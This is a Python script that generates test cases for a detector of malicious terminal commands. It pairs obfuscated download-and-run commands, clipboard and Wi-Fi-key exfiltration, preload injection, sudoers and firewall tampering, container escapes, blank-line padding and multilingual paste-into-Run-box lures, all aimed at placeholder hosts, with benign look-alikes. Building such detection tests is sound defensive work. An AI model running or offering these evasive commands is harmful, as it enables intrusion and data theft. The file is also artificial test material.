"""Writes tests/data/cases/b4nix.jsonl: shell, macOS, Linux and terminal techniques that the
fourth blind set showed missing (issue 9), in our own variants, each beside the everyday text
that looks like it and must stay quiet.

    python tests/data/cases/make_b4nix.py

Deterministic (every list is written out and crossed in a fixed order). Hosts are reserved names
(*.test, *.invalid, *.example) and documentation addresses; the benign texts name real projects
as their own pages do. No text is copied from a lure collection, an IOC file or another
detector's fixtures. Each line is {id, text, expect, technique, platform[, source], target}.

Techniques (lure / look-alike that stays quiet):

- `sh-glob-path`: programs named by glob patterns (/???/?as?, /usr/bin/c?rl) / globs that list
  files (ls /etc/*.conf, for f in /var/log/*.log).
- `sh-brace-words`: brace expansion instead of spaces ({curl,-s,URL}|{bash,}) / mkdir -p
  src/{a,b}, cp x{,.bak}.
- `sh-empty-expansion`: an empty $@, $*, $() or unset ${x} inside a name (cu$@rl, ba${x}sh,
  cur$()l) / "$@" passed on in a function, ${VERSION} in a file name.
- `sh-ifs`, `sh-backslash-wrapped`, `sh-fetched-variable`: $IFS for spaces, a hidden name behind
  sudo or env, a download kept in a variable and then eval'd / IFS set for read, sudo env,
  an API answer kept and printed.
- `zsh-equals`: zsh's =(curl …) given to a shell / diff =(ls a) =(ls b), vim =(curl …).
- `network-text-to-shell`: finger / DNS TXT / nc output piped into a shell / a finger lookup,
  dig of a TXT record read.
- `code-from-address`: deno run, npx, npm/pip install of a URL, brew tap of any git URL, git
  clone then a script from it, from a page that shares nothing with the address / the same
  commands from the project's own page.
- `unchecked-package-source`: an apt/yum source with its signature check off, then an install /
  a vendor's own [trusted=yes] repository from its own page.
- `sends-private-data`: clipboard, screen or Wi-Fi keys uploaded / the same tools used locally.
- `preload-injection`, `sudo-nopasswd`, `protection-off`, `container-takes-host`: what a command
  does besides downloading, chained to a download-and-run / the admin's own use alone.
- `blank-line-padding`: a command pushed below dozens of blank lines under a comment / a script
  with ordinary spacing.
- `paste-instructions-intl`: orders to open a terminal or the Run box and paste, in German,
  French, Spanish, Italian, Portuguese, Dutch, Polish, Turkish / a genuine how-to and a warning
  about the trick in the same languages.
"""

from __future__ import annotations

from pathlib import Path

from casefile import case as case_line  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("b4nix.jsonl")

PAGES = (
    "https://www.harbor-recipes.example/soup/lentil",
    "https://verify.cloud-gate.invalid/check",
    "https://meet-join.example/room/4411",
    "https://www.retro-games-forum.test/thread/981",
)
HOSTS = ("cdn-sync.test", "198.51.100.23", "update-node.invalid", "files.mirror-check.example")


def case(
    cid: str,
    text: str,
    expect: str,
    technique: str,
    platform: str,
    target: str = "terminal",
    source: str | None = None,
) -> dict[str, str]:
    return case_line(cid, text, expect, technique, platform, source, target)


def page(i: int) -> str:
    return PAGES[i % len(PAGES)]


def url(i: int, path: str = "s") -> str:
    return f"https://{HOSTS[i % len(HOSTS)]}/{path}"


# -- shell spelling -----------------------------------------------------------------------------

SHELL_GLOBS = ("/???/?as?", "/b??/ba*h", "/bin/b?sh", "/???/??sh", "/*/bas?", "/usr/bin/b?sh")
CURL_GLOBS = ("/???/???/?ur?", "/usr/bin/c?rl", "/u*/b*/cur?", "/usr/???/c*l")


def shell_spelling() -> list[dict[str, str]]:
    out = []
    n = 0
    for sh in SHELL_GLOBS:
        for cu in CURL_GLOBS:
            n += 1
            text = (
                f'{sh} -c "$({cu} -fsSL {url(n, "g")})"'
                if n % 2
                else f"{cu} -s {url(n, 'g')} | {sh}"
            )
            out.append(case(f"b4nix-glob-{n:02d}", text, "malicious", "sh-glob-path", "linux",
                            source=page(n)))  # fmt: skip
    braces = (
        "{curl,-fsSL,URL}|{bash,-s}",
        "{curl,-s,URL}|{sh,}",
        "{wget,-qO-,URL}|{bash,}",
        'bash -c "$({curl,-fsSL,URL})"',
        "{curl,-sL,URL}|{zsh,}",
        "{/usr/bin/curl,-s,URL}|{/bin/sh,}",
        "{curl,-o,/tmp/.u,URL};{sh,/tmp/.u}",
        "{wget,-q,-O,-,URL}|{sudo,bash}",
    )
    for i, shape in enumerate(braces, 1):
        out.append(case(f"b4nix-brace-{i:02d}", shape.replace("URL", url(i, "b")), "malicious",
                        "sh-brace-words", "linux", source=page(i)))  # fmt: skip
    empties = (
        "cu$@rl -s URL | ba$@sh",
        "c$*url -fsSL URL | b$*ash",
        "cu${x}rl -s URL | ba${x}sh",
        'ba${q}sh -c "$(cu${q}rl -fsSL URL)"',
        "w$@get -qO- URL | s$@h",
        "cu$1rl -s ht$@tps://HOST/e | ba$2sh",
        'z${nothing}sh -c "$(c${nothing}url -s URL)"',
        "curl -s ht$@tps://HOST/e | b$@ash",
    )
    for i, shape in enumerate(empties, 1):
        text = shape.replace("URL", url(i, "e")).replace("HOST", HOSTS[i % len(HOSTS)])
        out.append(case(f"b4nix-empty-{i:02d}", text, "malicious", "sh-empty-expansion",
                        "linux", source=page(i)))  # fmt: skip
    zsh = (
        "zsh =(curl -fsSL URL)",
        "sh =(curl -s URL)",
        "source =(curl -fsSL URL)",
        "sudo zsh =(curl -s URL)",
        "bash =(wget -qO- URL)",
        "python3 =(curl -s URL)",
    )
    for i, shape in enumerate(zsh, 1):
        out.append(case(f"b4nix-zsh-equals-{i:02d}", shape.replace("URL", url(i, "z")),
                        "malicious", "zsh-equals", "macos", source=page(i)))  # fmt: skip
    return out


MORE_SPELLINGS = (
    ("sh-ifs", "curl${IFS}-s${IFS}URL|bash"),
    ("sh-ifs", "curl$IFS-fsSL$IFS'URL'|sh"),
    ("sh-ifs", "wget${IFS}-qO-${IFS}URL|sh"),
    ("sh-glob-path", 'sudo /???/b?sh -c "$(curl -s URL)"'),
    ("sh-glob-path", '/bin/ba[s]h -c "$(/usr/bin/cu[r]l -s URL)"'),
    ("sh-glob-path", "env /usr/bin/c?rl -s URL | /b?n/sh"),
    ("sh-empty-expansion", "cur$()l -s URL | ba$()sh"),
    ("sh-empty-expansion", "w$()get -qO- URL | s$()h"),
    ("sh-backslash-wrapped", "env c\\url -s URL | env ba\\sh"),
    ("sh-backslash-wrapped", "sudo c\\url -s URL | sudo b\\ash"),
    ("sh-fetched-variable", 'X=$(curl -s URL);eval "$X"'),
    ("sh-fetched-variable", 'p=$(wget -qO- URL); bash -c "$p"'),
    ("sh-fetched-variable", 'c="$(curl -fsSL URL)" && eval "${c}"'),
)


def more_spellings() -> list[dict[str, str]]:
    out = []
    for i, (tech, shape) in enumerate(MORE_SPELLINGS, 1):
        text = shape.replace("URL", url(i, "m"))
        expect = "flagged" if tech == "sh-fetched-variable" else "malicious"
        out.append(case(f"b4nix-spelling-{i:02d}", text, expect, tech, "linux", source=page(i)))
    return out


def more_spellings_benign() -> list[dict[str, str]]:
    texts = (
        ("sh-ifs", 'OLDIFS=$IFS; IFS=,; read -r a b <<< "x,y"; IFS=$OLDIFS'),
        ("sh-ifs", "printf '%s' \"$IFS\" | od -c"),
        ("sh-ifs", 'while IFS= read -r line; do echo "$line"; done < hosts.txt'),
        ("sh-fetched-variable", 'X=$(curl -s https://api.github.com/repos/o/r); echo "$X" | jq .name'),
        ("sh-fetched-variable", 'ip=$(curl -s https://ifconfig.me); echo "my address is $ip"'),
        ("sh-backslash-wrapped", "sudo env DEBIAN_FRONTEND=noninteractive apt-get upgrade -y"),
        ("sh-backslash-wrapped", "sudo -u postgres psql -c 'select 1'"),
        ("sh-empty-expansion", 'echo "build $(date +%F)" > VERSION'),
    )  # fmt: skip
    return [
        case(f"b4nix-ok-spelling-{i:02d}", text, "not_flagged", tech, "linux",
             source="https://unix.stackexchange.com/questions/2345")
        for i, (tech, text) in enumerate(texts, 1)
    ]  # fmt: skip


def shell_spelling_benign() -> list[dict[str, str]]:
    texts = (
        ("sh-glob-path", "ls -la /etc/*.conf"),
        ("sh-glob-path", 'for f in /var/log/*.log; do gzip "$f"; done'),
        ("sh-glob-path", "ls /usr/bin/py*"),
        ("sh-glob-path", "sudo rm -rf /tmp/build-*"),
        ("sh-glob-path", "/usr/bin/python3 -m venv .venv && . .venv/bin/activate"),
        ("sh-glob-path", "cat /proc/*/status | grep -c Threads"),
        ("sh-glob-path", "du -sh /home/*/ 2>/dev/null | sort -h"),
        ("sh-glob-path", "file /usr/lib/x86_64-linux-gnu/libssl.so.*"),
        ("sh-brace-words", "mkdir -p src/{lib,bin,test} && cp config.yml{,.bak}"),
        ("sh-brace-words", "touch {index,about,contact}.html"),
        ("sh-brace-words", "echo {1..5}; mv report{,-2024}.pdf"),
        ("sh-brace-words", "tar czf backup.tgz {etc,home}/"),
        ("sh-brace-words", "git diff HEAD~1 -- {src,tests}/"),
        ("sh-brace-words", "convert image.{png,jpg}"),
        ("sh-brace-words", "const {name, version} = require('./package.json');"),
        ("sh-brace-words", "cp ~/.ssh/config{,.orig} && vim ~/.ssh/config"),
        ("sh-empty-expansion", 'mk() { mkdir -p "$@" && cd "$1"; }'),
        ("sh-empty-expansion", 'alias g="git $*"'),
        ("sh-empty-expansion", 'for arg in "$@"; do echo "$arg"; done'),
        (
            "sh-empty-expansion",
            "curl -LO https://github.com/cli/cli/releases/download/v${VERSION}/gh_${VERSION}_linux_amd64.tar.gz",
        ),
        ("sh-empty-expansion", 'tar xzf "app-${VERSION}-linux.tar.gz" -C "${PREFIX}/opt"'),
        ("sh-empty-expansion", 'echo "Hello ${USER}, today is $(date +%A)"'),
        ("sh-empty-expansion", 'wrapper() { command "$@" 2>&1 | tee -a "$LOG"; }'),
        ("zsh-equals", "diff =(ls dir1) =(ls dir2)"),
        ("zsh-equals", "vim =(curl -s https://api.github.com/repos/zsh-users/zsh)"),
        ("zsh-equals", "open =(pbpaste)"),
        ("zsh-equals", "kdiff3 =(sort a.txt) =(sort b.txt)"),
    )
    return [
        case(
            f"b4nix-ok-{tech}-{i:02d}",
            text,
            "not_flagged",
            tech,
            "linux",
            source="https://unix.stackexchange.com/questions/1234",
        )
        for i, (tech, text) in enumerate(texts, 1)
    ]


# -- network answers into a shell ---------------------------------------------------------------


def network_text() -> list[dict[str, str]]:
    shapes = (
        "finger run@HOST | sh",
        "finger mac@HOST | bash",
        "finger -l fix@HOST | sudo sh",
        "finger update@HOST | /bin/zsh",
        "dig +short TXT cfg.HOST | tr -d '\"' | sh",
        "dig TXT stage.HOST +short | sed 's/\"//g' | bash",
        "nslookup -q=txt k.HOST | grep -o '\"[^\"]*\"' | tr -d '\"' | sh",
        "host -t txt run.HOST | cut -d'\"' -f2 | bash",
        "nc HOST 4444 | sh",
        "ncat HOST 8443 | bash",
        "openssl s_client -quiet -connect HOST:443 | sh",
    )
    out = []
    for i, shape in enumerate(shapes, 1):
        host = ("finger-stage.test", "txt-relay.invalid", "198.51.100.61")[i % 3]
        platform = "macos" if "zsh" in shape or "mac@" in shape else "linux"
        out.append(case(f"b4nix-nettext-{i:02d}", shape.replace("HOST", host), "malicious",
                        "network-text-to-shell", platform, source=page(i)))  # fmt: skip
    quiet = (
        "finger alice@plan.example.org",
        "dig +short TXT _dmarc.example.com",
        "nslookup -q=txt example.com",
        "host -t txt google.com | head -3",
        "nc -zv db.internal.example 5432",
        "openssl s_client -connect example.com:443 -servername example.com </dev/null | openssl x509 -noout -dates",
    )  # fmt: skip
    out += [
        case(
            f"b4nix-ok-nettext-{i:02d}",
            text,
            "not_flagged",
            "network-text-to-shell",
            "linux",
            source="https://serverfault.com/questions/5678",
        )
        for i, text in enumerate(quiet, 1)
    ]
    return out


# -- package tools and fetchers that run code ---------------------------------------------------

FETCH_SHAPES = (
    ("deno", "deno run -A URL.ts"),
    ("deno", "deno run --allow-all URL.ts   # confirm you are human"),
    ("deno", "deno install -gAf -n helper URL.ts && helper"),
    ("npx", "npx -y URL.tgz"),
    ("npm", "npm install -g URL-1.0.2.tgz"),
    ("npm", "npm i -g git+https://HOST/tools/fixer.git"),
    ("npm", "pnpm add -g URL-2.1.0.tgz"),
    ("npm", "yarn global add URL-0.9.tgz"),
    ("pip", "pip install --quiet URL-0.1.tar.gz && python -m helper"),
    ("pip", "pip3 install URL.zip"),
    ("pip", "python3 -m pip install -q git+https://HOST/pkg/fix.git"),
    ("pip", "pipx install URL-1.0.tar.gz"),
    ("brew", "brew tap tools/fix URL && brew install tools/fix/agent"),
    ("brew", "brew tap verify/kit git://HOST/kit.git; brew install verify/kit/check"),
    ("git", "git clone URL; cd claimer; .\\setup.bat"),
    ("git", "git clone URL && cd tool && ./install.sh"),
    ("git", "git clone URL fix\ncd fix\nbash run.sh"),
    ("git", "git clone --depth 1 URL helper && python3 helper/main.py"),
    ("git", "git clone URL && cd kit && sudo sh setup.sh"),
    ("runner", "npm exec --yes -- URL.tgz"),
    ("runner", "bunx URL.tgz"),
    ("runner", "uv run URL.py"),
    ("runner", "pipx run URL.py"),
    ("cargo", "cargo install --git URL.git"),
)


def code_from_address() -> list[dict[str, str]]:
    out = []
    n = 0
    for host_i in range(len(HOSTS)):
        for kind, shape in FETCH_SHAPES:
            n += 1
            text = shape.replace("URL", url(host_i, "pkg/helper")).replace("HOST", HOSTS[host_i])
            out.append(case(f"b4nix-fetch-{kind}-{n:02d}", text, "flagged", "code-from-address",
                            "any", source=page(n)))  # fmt: skip
    return out


# A project's own page and its own download (the same registrable domain or forge account).
OWN_FETCHES = (
    ("https://github.com/psf/requests", "pip install https://github.com/psf/requests/archive/main.zip"),
    ("https://github.com/acme-labs/cli-tool",
     "npm install -g https://github.com/acme-labs/cli-tool/tarball/main"),
    ("https://github.com/acme-labs/cli-tool",
     "npm install -g git+https://github.com/acme-labs/cli-tool.git"),
    ("https://github.com/ohmyzsh/ohmyzsh",
     "git clone https://github.com/ohmyzsh/ohmyzsh.git && cd ohmyzsh/tools && ./install.sh"),
    ("https://github.com/acme-labs/dotfiles",
     "git clone https://github.com/acme-labs/dotfiles ~/.dotfiles\ncd ~/.dotfiles\n./install.sh"),
    ("https://gitlab.com/acme-labs/homebrew-tools",
     "brew tap acme-labs/tools https://gitlab.com/acme-labs/homebrew-tools && brew install acme-labs/tools/cli"),
    ("https://fresh.deno.dev/docs/getting-started", "deno run -A -r https://fresh.deno.dev"),
    ("https://github.com/huggingface/transformers",
     "pip install git+https://github.com/huggingface/transformers"),
    ("https://github.com/acme-labs/tool", "cargo install --git https://github.com/acme-labs/tool"),
    ("https://github.com/acme-labs/tool",
     "uv run https://raw.githubusercontent.com/acme-labs/tool/main/scripts/report.py"),
    ("https://gitlab.com/acme-labs/scanner",
     "pip install https://gitlab.com/acme-labs/scanner/-/archive/main/scanner-main.tar.gz"),
    ("https://github.com/acme-labs/kit",
     "git clone https://github.com/acme-labs/kit && cd kit && python3 setup.py install"),
    ("https://codeberg.org/acme-labs/notes",
     "git clone https://codeberg.org/acme-labs/notes.git && cd notes && ./bootstrap.sh"),
    ("https://goreleaser.com/install/",
     "echo 'deb [trusted=yes] https://repo.goreleaser.com/apt/ /' | sudo tee /etc/apt/sources.list.d/goreleaser.list\nsudo apt update\nsudo apt install goreleaser"),
)  # fmt: skip

# Everyday package commands with no address to run from, or an address that is only an index.
PLAIN_PACKAGES = (
    "deno run -A jsr:@std/http/file-server",
    "deno run main.ts",
    "npm install -g npm@latest",
    "npx create-react-app my-app",
    "bunx create-vite my-app",
    "uv run script.py",
    "pip install --upgrade pip",
    "pip3 install torch torchvision --index-url https://download.pytorch.org/whl/cu121",
    "pip install --extra-index-url https://pypi.example.org/simple internal-lib",
    "pip install numpy -i https://mirrors.example.edu.cn/pypi/simple",
    "pip3 install -f https://download.example.org/wheels/ -U tool",
    "brew tap hashicorp/tap && brew install hashicorp/tap/terraform",
    "brew install --cask iterm2 rectangle",
    "git clone https://github.com/neovim/neovim && cd neovim && make CMAKE_BUILD_TYPE=Release",
    "git clone --depth 1 https://github.com/junegunn/fzf.git ~/.fzf && ~/.fzf/install",
    "git clone git@github.com:acme-labs/app.git && cd app && npm ci",
    "sudo apt update && sudo apt install -y build-essential",
    "sudo dnf install -y https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm",
)


def code_from_address_benign() -> list[dict[str, str]]:
    out = [
        case(
            f"b4nix-ok-own-fetch-{i:02d}",
            text,
            "not_flagged",
            "code-from-address",
            "any",
            source=src,
        )
        for i, (src, text) in enumerate(OWN_FETCHES, 1)
    ]
    out += [
        case(
            f"b4nix-ok-package-{i:02d}",
            text,
            "not_flagged",
            "code-from-address",
            "any",
            source="https://docs.example.org/getting-started",
        )
        for i, text in enumerate(PLAIN_PACKAGES, 1)
    ]
    return out


def unchecked_sources() -> list[dict[str, str]]:
    shapes = (
        'echo "deb [trusted=yes] http://HOST/apt stable main" | sudo tee /etc/apt/sources.list.d/gpu.list && sudo apt update && sudo apt install -y gpu-driver-fix',
        "echo 'deb [allow-insecure=yes trusted=yes] https://HOST/debian ./' | sudo tee /etc/apt/sources.list.d/x.list; sudo apt-get update; sudo apt-get install -y helper",
        "printf '[fix]\\nname=fix\\nbaseurl=http://HOST/rpm\\ngpgcheck=0\\n' | sudo tee /etc/yum.repos.d/fix.repo && sudo dnf install -y fix-agent",
        "sudo apt-get install -y --allow-unauthenticated helper && echo 'deb http://HOST/apt main' | sudo tee -a /etc/apt/sources.list",
    )  # fmt: skip
    out = []
    n = 0
    for shape in shapes:
        for host in ("203.0.113.150", "pkg-mirror.invalid"):
            n += 1
            out.append(case(f"b4nix-unsigned-repo-{n:02d}", shape.replace("HOST", host),
                            "flagged", "unchecked-package-source", "linux",
                            source=page(n)))  # fmt: skip
    return out


# -- what a command does besides downloading ----------------------------------------------------

SINKS = (
    "curl -s -F f=@FILE https://HOST/u",
    "curl -s --data-binary @FILE https://HOST/p",
    "curl -sT FILE https://HOST/up",
    "wget -q --post-file=FILE https://HOST/w",
)


def sends_private_data() -> list[dict[str, str]]:
    sources = (
        ("macos", "pbpaste > /tmp/.c && SINK"),
        ("macos", "screencapture -x /tmp/.s.png && SINK && rm /tmp/.s.png"),
        ("linux", "xclip -o -selection clipboard > /tmp/.c; SINK"),
        ("linux", "import -window root /tmp/.s.png; SINK"),
        ("linux", "sudo cat /etc/NetworkManager/system-connections/* > /tmp/.c; SINK"),
        ("linux", "wl-paste > /tmp/.c && SINK"),
    )
    out = []
    n = 0
    for platform, src in sources:
        for sink in SINKS:
            n += 1
            file = "/tmp/.s.png" if "png" in src else "/tmp/.c"
            text = src.replace("SINK", sink.replace("FILE", file).replace("HOST", HOSTS[n % 4]))
            out.append(case(f"b4nix-exfil-{n:02d}", text, "malicious", "sends-private-data",
                            platform, source=page(n)))  # fmt: skip
    piped = (
        ("macos", "pbpaste | curl -s --data-binary @- https://HOST/p"),
        ("macos", "pbpaste | curl -s -d @- https://HOST/p"),
        ("linux", "xsel -b | curl -s -X POST --data-binary @- https://HOST/p"),
        ("macos", "osascript -e 'the clipboard' | curl -s -d @- https://HOST/c"),
        ("windows",
         "netsh wlan show profiles | Select-String ':\\s(.+)$' | % { netsh wlan show profile name=$_.Matches.Groups[1].Value key=clear } | Out-String | % { irm https://HOST/k -Method Post -Body $_ }"),
        ("windows",
         "(netsh wlan show profile name=Office key=clear) | Out-String | Invoke-RestMethod -Uri https://HOST/w -Method POST"),
        ("windows", "Get-Clipboard | % { iwr https://HOST/c -Method Post -Body $_ }"),
        ("linux", "nmcli -s -g 802-11-wireless-security.psk connection show Home | nc HOST 9001"),
        ("linux", "cat ~/.zsh_history | curl -s -d @- https://HOST/h"),
        ("linux", "curl -s -F h=@$HOME/.bash_history https://HOST/h"),
        ("linux", "env | curl -s --data-binary @- https://HOST/e"),
        ("macos", "printenv | curl -s -X POST -d @- https://HOST/e"),
    )  # fmt: skip
    for platform, text in piped:
        n += 1
        out.append(case(f"b4nix-exfil-{n:02d}", text.replace("HOST", HOSTS[n % 4]), "malicious",
                        "sends-private-data", platform, source=page(n)))  # fmt: skip
    return out


def sends_private_data_benign() -> list[dict[str, str]]:
    texts = (
        "pbpaste | jq . | pbcopy",
        "pbpaste > ~/notes/today.txt",
        "screencapture -i ~/Desktop/shot.png",
        "screencapture -x -T 5 ~/Desktop/later.png && open ~/Desktop/later.png",
        "xclip -o | wc -c",
        "import -window root ~/Pictures/desktop.png",
        "curl -F 'file=@report.pdf' https://api.example.com/upload",
        'netsh wlan show profile name="Home" key=clear',
        "netsh wlan show profiles",
        "nmcli -s connection show Home | grep psk",
        "Get-Clipboard | Set-Content notes.txt",
        "curl -s -X POST --data-binary @payload.json -H 'Content-Type: application/json' https://api.example.com/v1/items",
        "scrot ~/Pictures/%Y-%m-%d.png",
        "osascript -e 'set the clipboard to \"hello\"'",
        "env | grep -i proxy",
        "history | grep -c 'ssh deploy@'",
        "curl -s -d @payload.json https://api.example.com/v1 && env | sort",
    )  # fmt: skip
    return [
        case(
            f"b4nix-ok-exfil-{i:02d}",
            text,
            "not_flagged",
            "sends-private-data",
            "any",
            source="https://superuser.com/questions/4321",
        )
        for i, text in enumerate(texts, 1)
    ]


RUNS = (
    "curl -s URL | sudo sh",
    "wget -qO- URL | sudo bash",
    'sudo bash -c "$(curl -fsSL URL)"',
)


def system_changes() -> list[dict[str, str]]:
    out = []
    preload = (
        "curl -so /tmp/.libgl.so URL && echo /tmp/.libgl.so | sudo tee -a /etc/ld.so.preload",
        "wget -qO /usr/local/lib/libhelper.so URL; echo /usr/local/lib/libhelper.so >> /etc/ld.so.preload",
        "curl -s URL -o /dev/shm/.x.so && sudo sh -c 'echo /dev/shm/.x.so > /etc/ld.so.preload'",
        "curl -sLo /tmp/l.so URL && echo 'export LD_PRELOAD=/tmp/l.so' >> ~/.bashrc",
        "curl -so /tmp/i.dylib URL && launchctl setenv DYLD_INSERT_LIBRARIES /tmp/i.dylib",
    )  # fmt: skip
    for i, text in enumerate(preload, 1):
        platform = "macos" if "dylib" in text else "linux"
        out.append(case(f"b4nix-preload-{i:02d}", text.replace("URL", url(i, "l.so")),
                        "malicious", "preload-injection", platform, source=page(i)))  # fmt: skip
    sudoers = (
        'echo "$USER ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/90-panel && RUN',
        'echo "$(whoami) ALL=(ALL) NOPASSWD: ALL" | sudo tee -a /etc/sudoers; RUN',
        "sudo sh -c 'echo \"%admin ALL=(ALL) NOPASSWD:ALL\" >> /etc/sudoers' && RUN",
    )
    protection = (
        "sudo ufw disable; sudo setenforce 0; RUN",
        "sudo systemctl stop firewalld && sudo systemctl disable firewalld && RUN",
        "sudo setenforce 0 && RUN",
        "sudo systemctl stop apparmor; RUN",
        "sudo iptables -P INPUT ACCEPT && sudo iptables -F && RUN",
        "sudo sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config && RUN",
        "sudo /usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate off; RUN",
    )
    containers = (
        "docker run --rm --privileged -v /:/host registry.HOST/tools/fixer:latest chroot /host sh -c 'RUNQ'",
        "sudo docker run -it --privileged --pid=host -v /:/mnt alpine chroot /mnt sh -c 'RUNQ'",
        "podman run --privileged -v /:/h docker.io/library/alpine chroot /h bash -c 'RUNQ'",
        "docker run --privileged --pid=host -v /:/host alpine nsenter -t 1 -m -u -n -i sh -c 'RUNQ'",
    )  # fmt: skip
    n = 0
    for tech, platform, shapes in (
        ("sudo-nopasswd", "linux", sudoers),
        ("protection-off", "linux", protection),
        ("container-takes-host", "linux", containers),
    ):
        for shape in shapes:
            for run in RUNS:
                n += 1
                run_text = run.replace("URL", url(n, "a"))
                quiet_run = f"curl -s {url(n, 'p')} | sh"
                text = shape.replace("RUNQ", quiet_run).replace("RUN", run_text)
                text = text.replace("HOST", HOSTS[n % 4])
                if "socketfilterfw" in shape:
                    platform = "macos"
                out.append(case(f"b4nix-{tech}-{n:02d}", text, "malicious", tech, platform,
                                source=page(n)))  # fmt: skip
    return out


def system_changes_benign() -> list[dict[str, str]]:
    texts = (
        ("preload-injection", "cat /etc/ld.so.preload"),
        ("preload-injection", 'echo "" | sudo tee /etc/ld.so.preload'),
        ("preload-injection", "sudo rm -f /etc/ld.so.preload && sudo ldconfig"),
        ("preload-injection", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ./server"),
        ("sudo-nopasswd", 'echo "jenkins ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/jenkins'),
        ("sudo-nopasswd", "sudo visudo -f /etc/sudoers.d/deploy"),
        ("sudo-nopasswd", "echo 'deploy ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart app' | sudo tee /etc/sudoers.d/deploy"),
        ("protection-off", "sudo setenforce 0\nsudo sed -i 's/^SELINUX=enforcing$/SELINUX=permissive/' /etc/selinux/config"),
        ("protection-off", "sudo ufw disable"),
        ("protection-off", "sudo systemctl stop firewalld\nsudo systemctl disable firewalld"),
        ("protection-off", "sudo ufw allow 22/tcp && sudo ufw enable"),
        ("protection-off", "sudo iptables -L -n -v"),
        ("protection-off", "grep ^SELINUX= /etc/selinux/config"),
        ("container-takes-host", "docker run -d --privileged --name some-docker docker:dind"),
        ("container-takes-host", "sudo docker run --volume=/:/rootfs:ro --volume=/var/run:/var/run:ro --volume=/sys:/sys:ro --privileged --device=/dev/kmsg gcr.io/cadvisor/cadvisor:v0.49.1"),
        ("container-takes-host", 'docker run -d --net="host" --pid="host" -v "/:/host:ro,rslave" quay.io/prometheus/node-exporter:latest --path.rootfs=/host'),
        ("container-takes-host", "docker run --rm -it -v $(pwd):/work -w /work alpine sh"),
    )  # fmt: skip
    return [
        case(
            f"b4nix-ok-{tech}-{i:02d}",
            text,
            "not_flagged",
            tech,
            "linux",
            source="https://docs.example.org/admin/guide",
        )
        for i, (tech, text) in enumerate(texts, 1)
    ]


# -- hiding -------------------------------------------------------------------------------------


def padding() -> list[dict[str, str]]:
    heads = (
        "# Zoom SDK audio support update\n# Apple-notarized helper, no action required",
        "# Driver check complete",
        "# Verified by the security team\n# Safe to run",
        "echo 'Repairing audio service...'",
    )
    tails = (
        "curl -s URL | bash &>/dev/null &",
        "curl -fsSL URL | sh",
        'bash -c "$(curl -s URL)"',
        "wget -qO- URL | sh >/dev/null 2>&1",
    )
    out = []
    n = 0
    for head in heads:
        for lines in (40, 120, 300):
            n += 1
            tail = tails[n % len(tails)].replace("URL", url(n, "z"))
            out.append(case(f"b4nix-padding-{n:02d}", head + "\n" * lines + tail, "malicious",
                            "blank-line-padding", "macos", source=page(n)))  # fmt: skip
    return out


def padding_benign() -> list[dict[str, str]]:
    script = "#!/bin/sh\nset -e\n\n# build\nmake -j4\n\n\n# test\nmake test\n\n\n\n# install\nsudo make install\n"
    notes = (
        "Meeting notes\n\n\n\nAction items:\n- send the report\n- book the room\n"
        + "\n" * 10
        + "Next meeting: Friday"
    )
    poem = "\n\n\n".join(f"Stanza {i}\nthe river turns\nthe lamps go out" for i in range(1, 8))
    return [
        case("b4nix-ok-padding-01", script, "not_flagged", "blank-line-padding", "linux",
             source="https://github.com/acme-labs/app/blob/main/build.sh"),
        case("b4nix-ok-padding-02", notes, "not_flagged", "blank-line-padding", "any",
             target="other"),
        case("b4nix-ok-padding-03", poem, "not_flagged", "blank-line-padding", "any",
             target="other"),
        case("b4nix-ok-padding-04", "# install\n\n\ncurl -fsSL https://bun.sh/install | bash",
             "not_flagged", "blank-line-padding", "linux", source="https://bun.sh/docs/installation"),
    ]  # fmt: skip


INSTRUCTIONS = (
    ("de", "So beheben Sie den Kamerafehler in Teams:\n1. Rechtsklick auf Start → Terminal\n2. Befehl einfügen und Enter drücken"),
    ("de", "Drücken Sie Windows-Taste + R, fügen Sie den Code mit Strg + V ein und drücken Sie Enter."),
    ("fr", "Pour vérifier que vous êtes humain :\n1. Appuyez sur la touche Windows + R\n2. Collez avec Ctrl + V\n3. Appuyez sur Entrée"),
    ("fr", "Faites un clic droit sur Démarrer, choisissez Terminal, collez la commande et validez avec Entrée."),
    ("es", "Para completar la verificación:\n1. Pulsa la tecla Windows + R\n2. Pega el código (Ctrl + V)\n3. Pulsa Intro"),
    ("es", "Haz clic derecho en Inicio → Terminal, pega el comando y pulsa Intro."),
    ("it", "Per risolvere l'errore audio:\n1. Clic destro su Start → Terminale\n2. Incolla il comando e premi Invio"),
    ("pt", "Para confirmar que você não é um robô:\n1. Pressione a tecla Windows + R\n2. Cole o código com Ctrl + V\n3. Pressione Enter"),
    ("nl", "Los de fout op:\n1. Rechtsklik op Start → Terminal\n2. Plak de opdracht en druk op Enter"),
    ("pl", "Aby naprawić błąd:\n1. Kliknij prawym przyciskiem Start → Terminal\n2. Wklej polecenie i naciśnij Enter"),
    ("tr", "Doğrulamayı tamamlamak için:\n1. Windows tuşu + R'ye basın\n2. Ctrl + V ile yapıştırın\n3. Enter'a basın"),
)  # fmt: skip
COMMANDS = (
    ("run_dialog", 'powershell -w h -c "irm https://HOST/k | iex"'),
    ("terminal", "irm https://HOST/k | iex"),
    ("terminal", "iex (iwr https://HOST/f -UseBasicParsing).Content"),
)


def instructions() -> list[dict[str, str]]:
    out = []
    n = 0
    for lang, steps in INSTRUCTIONS:
        for _target, command in COMMANDS:
            n += 1
            text = steps + "\n\n" + command.replace("HOST", HOSTS[n % 4])
            out.append(case(f"b4nix-steps-{lang}-{n:02d}", text, "malicious",
                            "paste-instructions-intl", "windows", target="unknown",
                            source=page(n)))  # fmt: skip
    return out


def instructions_benign() -> list[dict[str, str]]:
    texts = (
        "Klicken Sie mit der rechten Maustaste auf Start und wählen Sie Terminal (Administrator).\nFügen Sie den Befehl ein und drücken Sie die Eingabetaste:\nwinget install --id Git.Git -e",
        "Vorsicht Betrug: Seiten, die sagen „Windows-Taste + R drücken, mit Strg + V einfügen, Enter“, wollen Ihnen Schadsoftware unterschieben. Niemals tun!",
        "Attention arnaque : une page qui vous demande d'appuyer sur la touche Windows + R puis de coller avec Ctrl + V veut installer un logiciel malveillant.",
